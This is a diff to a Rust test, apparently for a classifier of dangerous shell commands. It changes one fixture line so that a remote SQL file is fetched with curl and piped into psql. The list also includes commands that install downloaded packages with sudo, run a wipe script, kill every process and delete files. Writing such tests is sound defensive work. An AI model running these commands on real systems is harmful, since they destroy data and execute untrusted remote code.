@@ -32,7 +32,7 @@ fn what_may_destroy_or_take_over_is_dangerous() {
         apt install /tmp/x.deb
         wget https://example.org/x.deb; sudo dpkg -i x.deb
         psql app < wipe.sql
-        cat x.sql | psql app
+        curl https://example.org/x.sql | psql app
         psql -c 'EXPLAIN ANALYZE DELETE FROM runs'
         pkill -f '.*'
         tmp=$HOME/x; trap 'rm -rf "$tmp"' EXIT
